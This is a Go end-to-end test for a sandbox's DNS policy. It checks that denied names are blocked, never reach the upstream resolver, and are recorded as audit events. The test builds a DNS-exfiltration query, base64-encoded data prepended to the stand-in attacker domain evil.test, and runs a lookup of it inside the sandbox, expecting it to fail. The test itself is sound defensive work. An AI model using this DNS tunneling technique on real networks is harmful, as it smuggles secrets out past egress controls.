package e2e

import (
	"strings"
	"testing"

	"github.com/declaw/declaw/internal/testenv"
)

// TestDNS: sandboxes resolve through the server's resolver, which applies
// the sandbox's policy; denied names never reach the upstream.
func TestDNS(t *testing.T) {
	s := startServer(t)
	open := s.create(nil)
	closed := s.create(map[string]any{"allow_internet_access": false})
	listed := s.create(map[string]any{"network": map[string]any{"allow_out": []string{"*.allowed.test"}}})

	if res := s.run(open, "getent ahostsv4 api.example.test"); res.ExitCode != 0 || !strings.Contains(res.Stdout, testenv.ServiceIP.String()) {
		t.Fatalf("default policy: getent = %+v", res)
	}
	s.net.Reset()
	exfil := "c2VjcmV0LWV4ZmlsdHJhdGlvbi1wYXlsb2Fk.evil.test"
	if res := s.run(closed, "getent ahostsv4 "+exfil); res.ExitCode == 0 {
		t.Fatalf("deny-all sandbox resolved %s: %+v", exfil, res)
	}
	if res := s.run(listed, "getent ahostsv4 www.allowed.test"); res.ExitCode != 0 || !strings.Contains(res.Stdout, testenv.ServiceIP.String()) {
		t.Fatalf("allow-listed name: %+v", res)
	}
	if res := s.run(listed, "getent ahostsv4 "+exfil); res.ExitCode == 0 {
		t.Fatalf("name outside the allow list resolved: %+v", res)
	}
	for _, q := range s.net.Records().DNS {
		if strings.Contains(strings.ToLower(q.Name), "c2vjcmv0") {
			t.Fatalf("a denied name reached the upstream resolver: %+v", q)
		}
	}
	// Blocked queries are in the audit trail.
	var audit struct {
		Events []struct {
			Type string         `json:"type"`
			Data map[string]any `json:"data"`
		} `json:"events"`
	}
	s.must(200, "GET", "/sandboxes/"+listed+"/audit?type=dns.blocked", nil, &audit)
	found := false
	for _, e := range audit.Events {
		if e.Type == "dns.blocked" && e.Data["name"] == exfil {
			found = true
		}
	}
	if !found {
		t.Fatalf("audit has no dns.blocked event for %s: %s", exfil, fmtJSON(audit))
	}
}
